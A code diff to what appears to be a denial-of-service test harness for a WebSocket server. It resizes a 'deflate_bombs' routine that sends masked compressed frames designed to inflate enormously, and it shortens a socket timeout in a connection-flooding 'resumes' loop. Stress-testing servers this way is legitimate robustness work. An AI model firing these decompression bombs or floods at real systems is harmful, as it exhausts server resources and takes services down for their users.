@@ -124,9 +124,9 @@ def segmented_handshakes(target: Target) -> str:
 
 
 def deflate_bombs(target: Target) -> str:
-    """Messages of 1 MB that inflate to 1 GB."""
+    """Messages of 256 KB that inflate to 256 MB."""
     packer = zlib.compressobj(9, zlib.DEFLATED, -15)
-    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(1024)) + packer.flush(zlib.Z_SYNC_FLUSH)
+    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(256)) + packer.flush(zlib.Z_SYNC_FLUSH)
     bomb = masked_frame(0xC1, packed[:-4])
     count = 0
     while not target.is_over:
@@ -165,7 +165,7 @@ def resumes(target: Target) -> str:
                     socks.append(sock)
             for sock in socks:
                 with suppress(OSError):
-                    sock.settimeout(0.2)
+                    sock.settimeout(0.02)
                     while sock.recv(1 << 20) and not target.is_over:
                         pass
                 sock.close()
